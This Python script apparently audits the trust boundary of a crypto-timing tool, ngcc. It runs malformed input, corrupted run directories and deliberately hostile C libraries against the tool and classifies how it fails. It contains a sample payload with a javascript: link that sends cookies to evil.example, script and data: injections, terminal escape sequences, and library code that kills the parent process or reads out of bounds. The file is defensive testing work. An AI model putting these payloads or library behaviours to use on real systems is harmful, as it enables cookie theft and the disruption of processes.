"""The trust-boundary audit (issue 27), rerun: bad input, corrupt run directories and
hostile libraries, each in a process of its own, each outcome sorted into

  clear        the documented outcome: a one-line ``ngcc: error:`` (or the expected
               result, for a case that must succeed)
  traceback    a Python traceback reached the user
  hang         no answer within the case's time limit
  crash        the ngcc process died of a signal (a library stopped it)
  silent wrong exit status 0 (or "valid") where something was wrong
  escape       library text acted (a control character on the terminal, a live link
               or script on a page), or a file was written outside where it belongs

    python benchmarks/trust_audit.py [--only WORD] [--verbose]

Prints one line per case that is not clear, then the totals. Asserts nothing.
"""

from __future__ import annotations

import argparse
import collections
import dataclasses
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Callable
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests"))
from _testlib import CHANNEL_FD_SOURCE, FORGE_ERROR_STATEMENTS  # noqa: E402

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ESCAPES = "\033[2J\033]0;owned\007\033[31mFAKE PASS"
HOSTILE = ("[the log](javascript:location='//evil.example/?'+document.cookie) "
           "[d](data:text/html;base64,PHNjcmlwdD4=) ![](https://evil.example/p.png) "
           "<script>alert(1)</script> " + ESCAPES)


@dataclasses.dataclass
class Case:
    name: str
    argv: list[str]                  # run with sys.executable
    expect: str = "error"            # "error": a one-line error; "ok": exit 0
    timeout: float = 120.0
    check: Callable[[subprocess.CompletedProcess[str]], str | None] | None = None


def classify(case: Case) -> tuple[str, str]:
    try:
        done = subprocess.run([sys.executable, *case.argv], capture_output=True, text=True,
                              timeout=case.timeout, start_new_session=True,
                              errors="backslashreplace")
    except subprocess.TimeoutExpired:
        return "hang", "no answer within %g s" % case.timeout
    out = done.stdout + done.stderr
    if done.returncode < 0 or done.returncode in (128 + 15, 128 + 9):
        return "crash", "exit status %d" % done.returncode
    if "Traceback (most recent call last)" in out:
        return "traceback", out.strip().splitlines()[-1][:160]
    if CONTROL.search(out.replace("\n", "").replace("\t", "").replace("\r", "")):
        return "escape", "a control character reached the terminal"
    if case.check is not None:
        verdict = case.check(done)
        if verdict is not None:
            kind, _, why = verdict.partition(": ")
            return kind, why
    if case.expect == "ok":
        return ("clear", "") if done.returncode == 0 else (
            "silent wrong", "status %d: %s" % (done.returncode, out.strip()[-160:]))
    if done.returncode == 0:
        return "silent wrong", "exit status 0: %s" % out.strip()[-160:]
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    if case.argv[2:3] == ["validate"] and lines and "difference(s)" in lines[-1]:
        return "clear", ""  # validate's own answer: the differences, then the count
    if case.argv[2:3] == ["leak"] and done.returncode == 1 and "  ERROR  " in done.stdout:
        return "clear", ""  # ngcc leak's own line per instance: LABEL  ERROR  cause
    if not lines or not lines[-1].startswith("ngcc: "):
        return "silent wrong", "no ngcc: line: %s" % out.strip()[-160:]
    return "clear", ""


# ------------------------------------------------------------------ the cases

def cli(*args: str) -> list[str]:
    return ["-m", "ngcc", *args]


def py(code: str) -> list[str]:
    return ["-c", textwrap.dedent(code)]


ERRORS = "NgccError, ValueError, TypeError, OSError"


def api(expression: str, exceptions: str = ERRORS) -> list[str]:
    """Python that must raise one of ``exceptions`` (printed as one ngcc: line)."""
    return py("""
        import sys, ngcc, numpy as np
        from ngcc.base.errors import *
        try:
            %s
        except (%s) as exc:
            print("ngcc: error: %%s" %% exc, file=sys.stderr); sys.exit(1)
        """ % (expression, exceptions))


def cli_cases(tmp: Path) -> list[Case]:
    bad = [("hash", "SM4", "/dev/null"), ("hash", "SM3", str(tmp / "missing")),
           ("hash", "SM3", "/dev/null", "--bits", "-1"),
           ("hash", "SM3", "/dev/null", "--bits", "9"),
           ("kat", "SM4"), ("kat", "SM3", "--files", "2_99"), ("kat", "SM3", "--official",
                                                                   str(tmp / "nodir")),
           ("leak", "SM3", "--calls", "0"), ("leak", "SM3", "--length", "0"),
           ("leak", "SM3", "--fixed", "zz"), ("leak", "SM3", "--cpu", "4096"),
           ("validate", str(tmp / "nowhere")), ("report", str(tmp / "nowhere")),
           ("compare", str(tmp / "nowhere"), str(tmp / "nowhere")),
           ("build", str(tmp / "nowhere")), ("info", "SM4"), ("campaign",)]
    for flag in ("--trial-target", "--op-budget", "--target-ci", "--kat-timeout",
                 "--trial-timeout", "--trials"):
        for value in ("inf", "nan", "0", "-1", "x"):
            bad.append(("campaign", "SM3", "--quick", "--dry-run", flag, value,
                        "--run-dir", str(tmp / "r")))
    for lengths in ("0", "-5", "1.5", "1099511627776", "x", ""):
        bad.append(("campaign", "SM3", "--quick", "--dry-run", "--lengths", lengths,
                    "--run-dir", str(tmp / "r")))
    dangling = tmp / "dangling"
    dangling.symlink_to(tmp / "missing")
    bad += [("campaign", "SM3", "--quick", "--dry-run", "--run-dir", str(dangling)),
            ("campaign", "SM3", "--quick", "--dry-run", "--target-ci", "5", "--trials", "5",
             "--max-trials", "2", "--run-dir", str(tmp / "r2")),
            ("campaign", "SM3", "--quick", "--dry-run", "--cpu", "4096")]
    cases = [Case("cli " + " ".join(a)[:70], cli(*a)) for a in bad]
    cases.append(Case("cli hash /dev/zero under a memory limit", py("""
        import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (1 << 31, 1 << 31))
        from ngcc.cli.main import main; sys.exit(main(['hash', 'SM3', '/dev/zero']))""")))
    return cases


def api_cases(tmp: Path) -> list[Case]:
    expressions = [
        "ngcc.hash(b'SM3', b'abc')", "ngcc.hash('SM3', memoryview(b'abcdef')[::2])",
        "ngcc.hash('SM3', 'text')", "ngcc.hash('SM3', b'abc', bits=-1)",
        "ngcc.hash('SM3', b'abc', bits=25)", "ngcc.hash('SM3', b'abc', bits=1.5)",
        "ngcc.hash('SM4', b'abc')", "ngcc.hash(5, b'abc')",
        "ngcc.Campaign(['SM3'], lengths=[1.5])", "ngcc.Campaign(['SM3'], lengths=[True])",
        "ngcc.Campaign(['SM3'], lengths=[])", "ngcc.Campaign(['SM3'], trials=0)",
        "ngcc.Campaign(['SM3'], trial_target=float('inf'))",
        "ngcc.Campaign(['SM3'], trials=5, max_trials=2)", "ngcc.build('%s', flags=5)" % tmp,
        "ngcc.build('%s')" % (tmp / "nowhere"), "ngcc.leak('SM3', calls=10)",
        "ngcc.leak('SM3', length=0)", "ngcc.kat.check('SM3', files=['2_99'])",
        "ngcc.load_run('%s')" % (tmp / "nowhere"),
        "ngcc.time_calls('SM3', 32, calls=-1)",
    ]
    cases = [Case("api " + e[:70], api(e)) for e in expressions]
    cases.append(Case("api hash with numpy bits", py(
        "import ngcc, numpy as np; assert ngcc.hash('SM3', b'abc', bits=np.int64(8)) == "
        "ngcc.hash('SM3', b'a')"), expect="ok"))
    return cases


def run_dir_cases(tmp: Path) -> list[Case]:
    from _fakerun import make_run

    from ngcc.evidence.run import load_run
    from ngcc.report import write as _report

    pristine = make_run(tmp / "pristine")
    _report.write_report(load_run(pristine), plots=False, formats=("markdown", "html"))
    cases = [Case("run dir pristine validates", cli("validate", str(pristine)), expect="ok")]

    def damaged(name: str, damage: Callable[[Path], None]) -> Path:
        path = tmp / ("dir-" + re.sub(r"\W+", "-", name))
        shutil.copytree(pristine, path, symlinks=True)
        damage(path)
        return path

    def first(path: Path, pattern: str) -> Path:
        return sorted(path.glob(pattern))[0]

    def fifo(path: Path) -> None:
        path.unlink()
        os.mkfifo(path)

    state = json.loads((pristine / "campaign.json").read_text())
    damages: dict[str, Callable[[Path], None]] = {
        "kat log deleted": lambda p: first(p, "kat/*/*.log").unlink(),
        "kat log forged": lambda p: first(p, "kat/*/*.log").write_text(
            "RESULT baseline SM3 PASS\n"),
        "kat log a fifo": lambda p: fifo(first(p, "kat/*/*.log")),
        "raw a fifo": lambda p: fifo(first(p, "raw/*/*.npz")),
        "record a fifo": lambda p: fifo(first(p, "records/*/*.json")),
        "campaign a fifo": lambda p: fifo(p / "campaign.json"),
        "build.json a fifo": lambda p: fifo(p / "build.json"),
        "page a fifo": lambda p: fifo(p / "report" / "index.md"),
        "raw garbage": lambda p: first(p, "raw/*/*.npz").write_bytes(b"PK\x03\x04garbage"),
        "raw deleted": lambda p: first(p, "raw/*/*.npz").unlink(),
        "record deleted": lambda p: first(p, "records/*/*.json").unlink(),
        "record truncated": lambda p: first(p, "records/*/*.json").write_text("{\"schema\":"),
        "campaign truncated": lambda p: (p / "campaign.json").write_text("{"),
        "campaign not utf-8": lambda p: (p / "campaign.json").write_bytes(b"\xff\xfe{}"),
        "jobs empty": lambda p: (p / "campaign.json").write_text(json.dumps({**state, "jobs": []})),
        "a job missing": lambda p: (p / "campaign.json").write_text(
            json.dumps({**state, "jobs": state["jobs"][1:]})),
        "calls_per_trial 10**30": lambda p: (p / "campaign.json").write_text(json.dumps(
            {**state, "jobs": [{**state["jobs"][0], "calls_per_trial": 10**30},
                               *state["jobs"][1:]]})),
        "page link to javascript:": lambda p: (p / "report" / "index.md").open("a").write(
            "[x](javascript:alert%281%29)\n"),
        "page link to data:": lambda p: (p / "report" / "index.html").open("a").write(
            '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>\n'),
        "page link to a host": lambda p: (p / "report" / "index.md").open("a").write(
            "[x](https://evil.example/)\n"),
        "page edited": lambda p: (p / "report" / "summary.md").open("a").write("edited\n"),
    }
    for depth_file in ("campaign.json", "build.json", "records/*/*.json"):
        damages["deep json in " + depth_file] = (
            lambda p, f=depth_file: first(p, f).write_bytes(b"[" * 200000))
    for name, damage in damages.items():
        path = damaged(name, damage)
        cases.append(Case("run dir %s: validate" % name, cli("validate", str(path)), timeout=60))
        if "deep" in name or "fifo" in name or "jobs" in name:
            cases.append(Case("run dir %s: report" % name, cli("report", str(path)), timeout=60,
                              expect="ok" if "page" in name or "kat log" in name or "raw" in name
                              else "error"))
    return cases


LIBRARY = CHANNEL_FD_SOURCE + r"""
__attribute__((visibility("default")))
int CryptHash(int d, const unsigned char *msg, unsigned long long bits, unsigned char *digest)
{
    volatile unsigned char sink = 0;
    (void)channel_fd; (void)sink;
    BODY
    memset(digest, msg && bits ? msg[0] : 0x5A, (size_t)d / 8);
    return 0;
}
"""

BEHAVIOURS = {
    "kills parent TERM": "kill(getppid(), SIGTERM);",
    "kills parent KILL": "kill(getppid(), SIGKILL);",
    "tgkills parent": "syscall(SYS_tgkill, getppid(), getppid(), SIGTERM);",
    "kills everything": "kill(-1, 0);",  # signal 0: harmless if it escaped
    "forged error text": FORGE_ERROR_STATEMENTS,
    "reads 1 MiB past": "sink = msg[(size_t)(bits + 7) / 8 + (1u << 20) - 1];",
    "widens affinity": "{ cpu_set_t all; int i; CPU_ZERO(&all); for (i = 0; i < 64; i++) "
                       "CPU_SET(i, &all); sched_setaffinity(0, sizeof all, &all); }",
    "forks and setsid": "{ pid_t c = fork(); if (c == 0) { setsid(); sleep(30); _exit(0); } }",
    "exits": "exit(0);",
    "crashes": "raise(SIGSEGV);",
    "hangs": "for (;;) pause();",
    "garbage on the channel": "{ int fd = channel_fd(); if (fd >= 0 && write(fd, "
                              "\"\\xff\\xff\\xff\\x7f\\xf0\\xff\\xff\\xff\", 8) < 0) return 1; }",
}


def _c_string(text: str) -> str:
    return '"' + "".join("\\x%02x" % b for b in text.encode()) + '"'


def library_cases(tmp: Path) -> list[Case]:
    from _testlib import build_library

    folder = tmp / "libs"
    folder.mkdir()
    libraries = {}
    for name, body in BEHAVIOURS.items():
        stem = re.sub(r"\W+", "_", name)
        source = ("#define TEXT %s\n" % _c_string(HOSTILE)) + LIBRARY.replace("BODY", body)
        libraries[name] = build_library(folder, stem, source)
    message = tmp / "message"
    message.write_bytes(b"abc")
    cases = []

    def no_fake_pass(done: subprocess.CompletedProcess[str]) -> str | None:
        return None  # controls are checked for every case; the words may appear escaped

    harmless = ("widens affinity", "kills everything")  # hashing unpinned, signal 0 refused
    for name, library in libraries.items():
        timeout = 60.0 if name != "hangs" else 200.0
        expect = "ok" if name == "widens affinity" else "error"
        cases.append(Case("library %s: hash" % name, cli("hash", str(library), str(message)),
                          expect=expect, timeout=timeout, check=no_fake_pass))
        if name in ("kills parent TERM", "forged error text", "hangs", *harmless):
            cases.append(Case("library %s: leak" % name, cli(
                "leak", str(library), "--calls", "4000", "--seconds", "20", "--out",
                str(tmp / ("leak-" + re.sub(r"\W+", "-", name)))), expect=expect,
                timeout=timeout))
        if name in ("kills parent TERM", "forged error text", "reads 1 MiB past"):
            run_dir = tmp / ("run-" + re.sub(r"\W+", "-", name))
            cases.append(Case("library %s: campaign" % name, cli(
                "campaign", str(library), "--quick", "--lengths", "32", "--trials", "2",
                "--allow-kat-fail", "--quiet", "--run-dir", str(run_dir)), timeout=300,
                check=_pages_inert(run_dir)))
    cases.append(Case("library widens affinity: flagged", py("""
        import os, sys, warnings
        from ngcc.campaign.campaign import Campaign
        warnings.simplefilter("ignore")
        run = Campaign([%r], lengths=[32], trials=2, quick=True, allow_kat_fail=True,
                       run_dir=%r, progress=False).run()
        codes = {f.code for r in run.records for f in r.statistics.flags}
        sys.exit(0 if "affinity_changed" in codes or len(os.sched_getaffinity(0)) < 2 else 3)
        """ % (str(libraries["widens affinity"]), str(tmp / "affinity-run"))), expect="ok",
        timeout=300))
    cases.append(Case("fake driver: one tick per call", py("""
        import sys, textwrap
        sys.path.insert(0, %r)
        from _testlib import fake_driver
        from pathlib import Path
        import ngcc
        from ngcc.driver import child as _child
        from ngcc.driver import facts as _facts
        from ngcc.driver import process as _process
        from ngcc.driver import protocol as _protocol
        _, floor, frequency = _facts.counter_floor()
        fields = {name: 0 for name, _ in _protocol.TRIAL_FIELDS}
        fields.update(cpu=-1, counter_id=1, calls=100, frequency_hz=frequency,
                      overhead_min_ticks=4 * floor, overhead_median_ticks=4 * floor,
                      loop_ticks=100, loop_ns=100, baseline_rss_kib=1, peak_rss_kib=1)
        values = [fields[name] for name, _ in _protocol.TRIAL_FIELDS]
        body = textwrap.dedent('''
            frame(1, struct.pack('<II', 1, pid)); frame(2)
            facts = %%r
            facts[0] = pid
            frame(7, struct.pack(%%r, *facts)); frame(8, struct.pack('<Q', 1) * 100)
            frame(16, bytes(64)); frame(13)  # TRIAL_DIGEST: the forgery's facts are judged
        ''') %% (values, _protocol.TRIAL_LAYOUT.format)
        _process.DRIVER = fake_driver(Path(%r), body)
        try:
            _child.trial(ngcc.instance("SM3"), 32, 100, 0, batch_calls=0)
        except _process.DriverError as exc:
            print("ngcc: error: %%s" %% exc, file=sys.stderr)
            sys.exit(1 if exc.status == "protocol" else 3)
        """ % (str(REPO / "tests"), str(tmp)))))
    return cases


def _pages_inert(run_dir: Path) -> Callable[[subprocess.CompletedProcess[str]], str | None]:
    def check(done: subprocess.CompletedProcess[str]) -> str | None:
        if done.returncode < 0:
            return None
        report = subprocess.run([sys.executable, "-m", "ngcc", "report", str(run_dir),
                                 "--format", "markdown", "--format", "html", "--no-plots"],
                                capture_output=True, text=True, timeout=120)
        if report.returncode not in (0, 1):
            return "silent wrong: ngcc report exited %d" % report.returncode
        from ngcc.base import untrusted as _untrusted
        for page in sorted((run_dir / "report").glob("*.*")):
            text = page.read_text(encoding="utf-8", errors="replace")
            if CONTROL.search(text.replace("\n", "").replace("\t", "")):
                return "escape: a control character in %s" % page.name
            if page.suffix == ".html":
                if "<script" in text:
                    return "escape: a script in %s" % page.name
                for target in re.findall(r"""\bhref\s*=\s*["']([^"']*)["']""", text):
                    if not _untrusted.local_href(target):
                        return "escape: a live link to %s in %s" % (target, page.name)
            else:
                outside = _untrusted.CODE_SPAN.sub("", text)
                if "](javascript:" in outside or "](data:" in outside or "<script" in outside:
                    return "escape: live library text in %s" % page.name
        valid = subprocess.run([sys.executable, "-m", "ngcc", "validate", str(run_dir)],
                               capture_output=True, text=True, timeout=120)
        if valid.returncode != 0:
            return "silent wrong: validate of the hostile run: %s" % valid.stderr[-200:]
        return None
    return check


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--only", default="", help="run the cases whose name holds this")
    parser.add_argument("--verbose", action="store_true", help="print every case")
    args = parser.parse_args()
    tmp = Path(tempfile.mkdtemp(prefix="ngcc-audit-"))
    try:
        os.chdir(tmp)  # default output folders land here
        cases = [c for c in (cli_cases(tmp) + api_cases(tmp) + run_dir_cases(tmp)
                             + library_cases(tmp)) if args.only in c.name]
        totals: collections.Counter[str] = collections.Counter()
        for case in cases:
            kind, why = classify(case)
            totals[kind] += 1
            if kind != "clear" or args.verbose:
                print("%-12s %s%s" % (kind, case.name, ": " + why if why else ""), flush=True)
        print("%d cases: %s" % (len(cases), ", ".join(
            "%d %s" % (totals[k], k) for k in ("clear", "traceback", "hang", "crash",
                                               "silent wrong", "escape"))))
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
